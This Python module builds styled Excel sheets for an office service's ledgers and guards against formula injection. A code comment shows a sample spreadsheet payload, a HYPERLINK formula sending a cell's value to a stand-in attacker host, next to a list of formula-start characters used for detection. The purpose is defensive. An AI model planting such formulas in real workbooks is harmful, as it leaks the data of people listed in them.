"""How an office sheet looks: the one place that styles the workbooks the service hands out.

A sheet is an optional title row, an optional note row, a bold header that stays frozen on
screen and repeats on every printed page, then the data. Dates are real Excel dates, so the
office can sort and filter them; datetimes are shown in the county's time zone without a zone
(Excel has none). Pages print landscape on A4, fitted to the width.

`write_table` works on an ordinary worksheet and on a write-only one (`Workbook(write_only=True)`,
which streams rows to disk and keeps a large ledger out of memory).
"""
from __future__ import annotations

import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Border, Font, NamedStyle, PatternFill, Side
from openpyxl.utils import get_column_letter
from openpyxl.workbook import Workbook
from openpyxl.worksheet.page import PageMargins
from openpyxl.worksheet.worksheet import Worksheet

LOCAL_TZ = ZoneInfo("Asia/Shanghai")
KINDS = ("text", "date", "datetime", "int", "percent", "wrap")

DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
PERCENT_FORMAT = "0.0%"
INT_FORMAT = "0"

_THIN = Side(style="thin", color="999999")
_BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="DDE6F0")
_HEADER_ALIGN = Alignment(horizontal="center", vertical="center", wrap_text=True)
_TITLE_FONT = Font(bold=True, size=16)
_TITLE_ALIGN = Alignment(horizontal="center", vertical="center")
_NOTE_FONT = Font(italic=True, size=10, color="555555")
_TOP = Alignment(vertical="top")
_WRAP = Alignment(vertical="top", wrap_text=True)


@dataclass(frozen=True)
class Column:
    title: str
    width: int = 14
    kind: str = "text"  # text | date | datetime | int | percent | wrap

    def __post_init__(self) -> None:
        if self.kind not in KINDS:
            raise ValueError(f"unknown column kind {self.kind!r}")


def excel_datetime(value: datetime) -> datetime:
    """The local wall-clock time, tz-naive: what Excel can store and what the office reads."""
    if value.tzinfo is not None:
        value = value.astimezone(LOCAL_TZ).replace(tzinfo=None)
    return value.replace(microsecond=0)


def _is_write_only(ws: Any) -> bool:
    return not isinstance(ws, Worksheet)


# One named style per kind of cell, registered once per workbook: assigning a name is much
# cheaper than building a border, alignment and number format for each of 100 000 cells.
_DATA_STYLES = {
    "text": ("ys_text", _TOP, None),
    "wrap": ("ys_wrap", _WRAP, None),
    "date": ("ys_date", _TOP, DATE_FORMAT),
    "datetime": ("ys_datetime", _TOP, DATETIME_FORMAT),
    "int": ("ys_int", _TOP, INT_FORMAT),
    "percent": ("ys_percent", _TOP, PERCENT_FORMAT),
}
_HEADER_STYLE = "ys_header"


def _register_styles(wb: Workbook) -> None:
    present = set(wb.named_styles)
    for name, alignment, number_format in _DATA_STYLES.values():
        if name not in present:
            wb.add_named_style(NamedStyle(name=name, border=_BORDER, alignment=alignment,
                                          number_format=number_format or "General"))
    if _HEADER_STYLE not in present:
        wb.add_named_style(NamedStyle(name=_HEADER_STYLE, font=_HEADER_FONT, fill=_HEADER_FILL,
                                      alignment=_HEADER_ALIGN, border=_BORDER))


# What Excel and WPS take for the start of a formula in a cell typed in, or in a CSV saved from
# the sheet (OWASP, “CSV injection”): `=HYPERLINK("http://evil.example/?"&F2,"详情")` in a title
# would send the row's reporter to whoever wrote it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What an .xlsx cannot hold (XML 1.0 refuses it; openpyxl raises IllegalCharacterError): control
# characters but tab, line feed and carriage return, lone surrogates, U+FFFE and U+FFFF.
NOT_IN_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def text_cell(ws: Any, value: Any) -> WriteOnlyCell:
    """A cell of `ws` holding `value`; a text is always a text: what an .xlsx cannot hold is
    left out, and one that starts like a formula is stored as a string with Excel's own
    apostrophe mark (quotePrefix), so neither Excel nor WPS ever evaluates it, also once the
    cell is edited; its text is kept as it was, so the ledger import reads back what it wrote."""
    if not isinstance(value, str):
        return WriteOnlyCell(ws, value=value)
    value = NOT_IN_XLSX.sub("", value)
    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True
    return cell


def _cell(ws: Any, column: Column, value: Any) -> WriteOnlyCell:
    kind = column.kind
    if isinstance(value, datetime):
        value = excel_datetime(value)
        if kind == "date":
            value = value.date()
    cell = text_cell(ws, value)
    quoted = cell.quotePrefix
    cell.style = _DATA_STYLES[kind][0]
    if quoted:
        cell.quotePrefix = True   # the named style set just now carries no quote mark
    return cell


def _styled(ws: Any, value: Any, font: Font, alignment: Alignment) -> WriteOnlyCell:
    cell = text_cell(ws, value)
    cell.font = font
    cell.alignment = alignment
    return cell


def _merge(ws: Any, ref: str) -> None:
    if _is_write_only(ws):
        ws.merged_cells.add(ref)
    else:
        ws.merge_cells(ref)


def write_table(ws: Any, columns: Sequence[Column], rows: Iterable[Sequence[Any]], *,
                title: str | None = None, note: str | None = None) -> int:
    """Write a styled table on an empty worksheet (ordinary or write-only); the number of data
    rows written. `rows` may be a generator: it is consumed once, row by row."""
    if not columns:
        raise ValueError("a table needs at least one column")
    last_letter = get_column_letter(len(columns))
    # A write-only sheet writes its views and column widths before the first row, so every
    # sheet-level setting that precedes the data is made before anything is appended.
    for index, column in enumerate(columns, start=1):
        ws.column_dimensions[get_column_letter(index)].width = column.width
    header_row = 1 + (title is not None) + (note is not None)
    ws.freeze_panes = f"A{header_row + 1}"
    ws.print_title_rows = f"{header_row}:{header_row}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = Worksheet.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_margins = PageMargins(left=0.4, right=0.4, top=0.6, bottom=0.6)
    ws.print_options.horizontalCentered = True

    if title is not None:
        ws.row_dimensions[1].height = 30
        ws.append([_styled(ws, title, _TITLE_FONT, _TITLE_ALIGN)])
        if len(columns) > 1:
            _merge(ws, f"A1:{last_letter}1")
    if note is not None:
        note_row = header_row - 1
        ws.append([_styled(ws, note, _NOTE_FONT, Alignment(vertical="center"))])
        if len(columns) > 1:
            _merge(ws, f"A{note_row}:{last_letter}{note_row}")
    _register_styles(ws.parent)
    header = []
    for c in columns:
        cell = text_cell(ws, c.title)
        cell.style = _HEADER_STYLE
        header.append(cell)
    ws.append(header)

    count = 0
    for row in rows:
        values = list(row)
        if len(values) != len(columns):
            raise ValueError(f"row {count + 1} has {len(values)} values for {len(columns)} columns")
        ws.append([_cell(ws, column, value) for column, value in zip(columns, values, strict=True)])
        count += 1
    ws.auto_filter.ref = f"A{header_row}:{last_letter}{header_row + max(count, 1)}"
    return count


def workbook_bytes(wb: Workbook) -> bytes:
    """The .xlsx file as bytes (a write-only workbook can be saved once only)."""
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
